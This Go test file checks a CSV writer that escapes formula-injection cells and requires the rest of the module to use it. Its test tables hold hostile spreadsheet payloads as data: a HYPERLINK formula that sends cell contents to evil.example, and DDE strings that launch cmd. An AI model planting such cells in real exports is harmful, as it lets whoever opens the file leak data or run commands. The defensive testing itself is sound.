package csvfile

import (
	"bytes"
	"encoding/csv"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Active", "Active"},
		{"CC-1234", "CC-1234"},
		{"m2m.proximus.be", "m2m.proximus.be"},
		{`=HYPERLINK("https://evil.example/?d="&A1,"help")`, `'=HYPERLINK("https://evil.example/?d="&A1,"help")`},
		{"+=1+cmd|' /C calc'!A0", "'+=1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"+32 471 00 00 01", "'+32 471 00 00 01"},
		{"'already quoted", "'already quoted"},
		{" =1+1", " =1+1"}, // a leading space makes it text already
	} {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestBytesReadsBackWithEveryFormulaQuoted writes hostile cells and reads
// the file back as a spreadsheet would split it: no cell starts a formula,
// and each holds its text after the quote.
func TestBytesReadsBackWithEveryFormulaQuoted(t *testing.T) {
	header := []string{"number", "cost_centre", "apn"}
	rows := [][]string{
		{"+32471000001", `=HYPERLINK("https://evil.example","x")`, "@SUM(A1:A9)"},
		{"+32471000002", "plain, with a comma", "line\nbreak"},
	}
	input := slices.Clone(rows[0])
	got, err := csv.NewReader(bytes.NewReader(Bytes(header, rows))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], input) {
		t.Errorf("Bytes changed the caller's row to %q", rows[0])
	}
	want := [][]string{
		header,
		{"'+32471000001", `'=HYPERLINK("https://evil.example","x")`, "'@SUM(A1:A9)"},
		{"'+32471000002", "plain, with a comma", "line\nbreak"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("read back %q, want %q", got, want)
	}
	for _, row := range got {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}

// TestEveryCSVFileGoesThroughWriter keeps this package the one CSV writer:
// no other code of the module makes an encoding/csv Writer.
func TestEveryCSVFileGoesThroughWriter(t *testing.T) {
	root, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	self, _ := filepath.Abs(".")
	fset := token.NewFileSet()
	checked := 0
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case d.IsDir() && (path == self || strings.HasPrefix(d.Name(), ".") || d.Name() == "testdata" || d.Name() == "vendor"):
			return filepath.SkipDir
		case d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go"):
			return nil
		}
		f, err := parser.ParseFile(fset, path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		checked++
		name := "" // the name encoding/csv is imported as
		for _, imp := range f.Imports {
			if imp.Path.Value == `"encoding/csv"` {
				name = "csv"
				if imp.Name != nil {
					name = imp.Name.Name
				}
			}
		}
		if name == "" {
			return nil
		}
		ast.Inspect(f, func(n ast.Node) bool {
			if sel, ok := n.(*ast.SelectorExpr); ok {
				if id, ok := sel.X.(*ast.Ident); ok && id.Name == name && (sel.Sel.Name == "NewWriter" || sel.Sel.Name == "Writer") {
					rel, _ := filepath.Rel(root, path)
					t.Errorf("%s:%d uses encoding/csv's Writer; write CSV files with csvfile.Writer", rel, fset.Position(sel.Pos()).Line)
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if checked < 50 {
		t.Fatalf("checked %d Go files, want the whole module", checked)
	}
}
